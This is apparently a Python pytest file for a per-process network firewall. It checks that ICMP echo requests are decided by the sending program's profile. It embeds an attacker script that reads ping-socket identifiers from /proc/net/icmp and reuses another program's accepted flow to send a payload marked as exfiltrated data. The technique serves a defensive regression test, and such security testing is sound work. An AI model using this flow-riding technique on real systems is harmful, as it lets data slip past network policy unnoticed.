"""ICMP echo requests are attributed to the process that sends them (rule 1i,
bpf/attribution/icmp_out.bpf.h). Any user may ping through a ping socket where
net.ipv4.ping_group_range allows it (systemd opens it to every group), and a process with
CAP_NET_RAW through a raw socket, with whatever payload: before, such a flow belonged to no
process, and the shipped policy let every ICMP flow out by a global rule, so a program the
policy refused could still carry data to any host. Now its profile decides.

The programs are copies of ping(8) at paths of the test's own (a copy has no file
capabilities): with ping_group_range open it uses a ping socket, with it closed and
CAP_NET_RAW given it uses a raw socket.

And an echo request on a flow another program's ping left accepted (rule 0e, found by an
attack review): a ping socket's identifier is its bound "port", which any user reads from
/proc/net/icmp and binds a ping socket of its own to once that program is done; conntrack
still holds the flow accepted (30 s from its last packet), and rule 1 let the request out
undecided, with whatever it carried. It is decided for its sender now."""
import os
import shutil

import pytest

from test_attribution import cgroup, in_cgroup, install, logged_rows, profiled  # noqa: F401
from test_identity_lending import all_rows
from warden_lab import PYTHON, S4, S6

NOBODY = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
# A raw socket needs CAP_NET_RAW: as an ambient capability, so that it survives the exec.
RAW = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
       "--inh-caps", "+net_raw", "--ambient-caps", "+net_raw"]


def ping_copies(lab):
    ping = shutil.which("ping")
    if not ping:
        pytest.skip("no ping(8) here")
    return {kind: install(ping, os.path.join(lab.tmp, "bin", kind, "ping"))
            for kind in ("allowed", "denied")}


def ping_sockets(lab, open_to_all):
    lab.c.run(["sysctl", "-qw",
               f"net.ipv4.ping_group_range={'0 2147483647' if open_to_all else '1 0'}"])


def ping(lab, cg, program, host, user=NOBODY):
    res = lab.c.run(in_cgroup(cg, user + [program, "-n", "-c", "1", "-W", "1", host]),
                    timeout=10, check=False)
    return "reply" if res.returncode == 0 else f"no reply (rc {res.returncode}) {res.stderr!r}"


def start(lab, wardend, cg, copies):
    # No global ICMP rule (the shipped one is gone): the profiles decide, and `unknown` denies
    # what no process is found for.
    return profiled(lab, wardend, cg, {"allowed": ("allow", {"path": copies["allowed"]}),
                                       "denied": ("deny", {"path": copies["denied"]})},
                    default="deny", unknown="deny")


@pytest.mark.parametrize("host", [S4, S6])
def test_a_ping_sockets_echo_request_is_decided_by_its_senders_profile(lab, cgroup, wardend,
                                                                      host):
    copies = ping_copies(lab)
    ping_sockets(lab, True)
    d = start(lab, wardend, cgroup, copies)
    assert ping(lab, cgroup, copies["allowed"], host) == "reply"
    assert ping(lab, cgroup, copies["denied"], host) != "reply", \
        "a ping of a program the policy refuses got through"
    rows = logged_rows(d, {0})
    assert rows, "no log row"
    decided = {(r["profile"], r["action"]) for r in rows if r["protocol"].startswith("icmp")}
    assert decided == {("allowed", "allow"), ("denied", "deny")}, rows
    assert d.status()["attribution"]["bpf"]["echo_recorded"] >= 2, d.status()["attribution"]


@pytest.mark.parametrize("host", [S4, S6])
def test_a_raw_sockets_echo_request_is_decided_by_its_senders_profile(lab, cgroup, wardend,
                                                                     host):
    copies = ping_copies(lab)
    ping_sockets(lab, False)  # ping falls back to a raw socket
    try:
        d = start(lab, wardend, cgroup, copies)
        assert ping(lab, cgroup, copies["allowed"], host, RAW) == "reply"
        assert ping(lab, cgroup, copies["denied"], host, RAW) != "reply", \
            "a raw ping of a program the policy refuses got through"
        rows = logged_rows(d, {0})
        assert rows and {r["profile"] for r in rows
                         if r["protocol"].startswith("icmp")} == {"allowed", "denied"}, rows
    finally:
        ping_sockets(lab, True)


def test_a_ping_from_outside_the_attached_cgroup_is_nobodys(lab, cgroup, wardend):
    """The hooks cover the attached cgroup tree (SPEC section 5): a ping socket made outside it
    is not marked, its flow has no process, and `unknown` decides it."""
    copies = ping_copies(lab)
    ping_sockets(lab, True)
    start(lab, wardend, cgroup, copies)
    res = lab.c.run(NOBODY + [copies["allowed"], "-n", "-c", "1", "-W", "1", S4], timeout=10,
                    check=False)
    assert res.returncode != 0, "unknown = deny let a ping of nobody's through"
    assert ping(lab, cgroup, copies["allowed"], S4) == "reply"  # control


# ---- rule 0e: an echo flow another program's ping left accepted ----------------------------
# The attacker (python as nobody; no profile: engine default deny).
#   own HOST                 one echo request from a ping socket of its own (kernel ident)
#   watch SECS               prints every ping-socket identifier /proc/net/icmp shows meanwhile
#   ride HOST IDENT          binds a ping socket to IDENT and sends three echo requests with data
PINGER = r"""
import socket, struct, sys, time
mode = sys.argv[1]
def echo(host, ident=None, times=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    if ident is not None:
        s.bind(("0.0.0.0", ident))
    s.settimeout(1.5)
    payload = b"EXFIL-secret-data"
    for seq in range(1, times + 1):
        s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, seq) + payload, (host, 0))
        try:
            d = s.recv(200)
            print("reply", d[8:].decode(errors="replace"), flush=True)
        except socket.timeout:
            print("timeout", flush=True)
def idents():
    out = set()
    with open("/proc/net/icmp") as f:
        for line in f.readlines()[1:]:
            out.add(int(line.split()[1].split(":")[1], 16))
    return out
if mode == "own":
    echo(sys.argv[2])
elif mode == "watch":
    seen, end = set(), time.monotonic() + float(sys.argv[2])
    print("ready", flush=True)
    while time.monotonic() < end:
        seen |= idents()
        time.sleep(0.002)
    print("seen", *sorted(seen), flush=True)
elif mode == "ride":
    host, ident = sys.argv[2], int(sys.argv[3])
    deadline = time.monotonic() + 5
    while ident in idents() and time.monotonic() < deadline:  # until the victim's socket is gone
        time.sleep(0.01)
    echo(host, ident, times=3)  # the second and third too: each is decided again
"""


def _pinger(lab, cg, *args):
    res = lab.c.run(in_cgroup(cg, NOBODY + [PYTHON, "-c", PINGER] + [str(a) for a in args]),
                    timeout=20, check=False)
    return res.stdout.strip() + res.stderr.strip()


def test_an_echo_request_on_another_programs_accepted_icmp_flow_is_decided(lab, cgroup, wardend):
    """The allowed ping (a copy of ping(8) whose profile allows everything) pings S4: its flow
    (C4, S4, echo identifier X) is accepted and conntrack keeps it for 30 s. The attacker
    (python, no profile: default deny; refused when it pings S4 from a socket of its own) reads
    X from /proc/net/icmp (world-readable) while the ping runs, binds a ping socket of its own
    to identifier X once the ping has exited, and sends S4 an echo request carrying its data.
    Its packet is on the accepted flow's conntrack entry: rule 1 accepted it, undecided; rule
    0e decides it for the attacker now."""
    copies = ping_copies(lab)
    ping_sockets(lab, True)
    lab.ping(S4)
    d = start(lab, wardend, cgroup, copies)
    assert _pinger(lab, cgroup, "own", S4) == "timeout"  # control: the attacker is refused
    watch = lab.c.spawn(in_cgroup(cgroup, NOBODY + [PYTHON, "-c", PINGER, "watch", "3"]),
                        "watch", lines=True)
    assert watch.wait_line(lambda t: t == "ready", timeout=10), watch.stderr_text()
    res = lab.c.run(in_cgroup(cgroup, NOBODY + [copies["allowed"], "-n", "-c", "2", "-i", "0.3",
                                                "-W", "1", S4]), timeout=10, check=False)
    assert res.returncode == 0, res.stderr  # the allowed program's ping
    seen = watch.wait_line(lambda t: t.startswith("seen"), timeout=10)
    assert seen, watch.stderr_text()
    idents = [int(x) for x in seen.split()[1:]]
    assert idents, "no ping socket seen"
    outcomes = [_pinger(lab, cgroup, "ride", S4, ident) for ident in idents]
    rows = [(r.get("action"), r.get("protocol"), r.get("remote_addr"), r.get("local_port"),
             r.get("profile"), r.get("decided_by")) for r in all_rows(d)]
    print("idents", idents, "outcomes", outcomes, "rows", rows)
    assert not any("reply" in o for o in outcomes), \
        f"BYPASS: the attacker's echo request rode the allowed ping's flow: {outcomes} {rows}"
    # Each request of each ride was decided, for the attacker (no profile: the engine default),
    # besides its own ping of the control.
    refused = [r for r in rows if r[:3] == ("deny", "icmp", S4) and r[4:] == (None,
                                                                               "engine-default")]
    assert len(refused) >= 1 + 3 * len(idents), rows
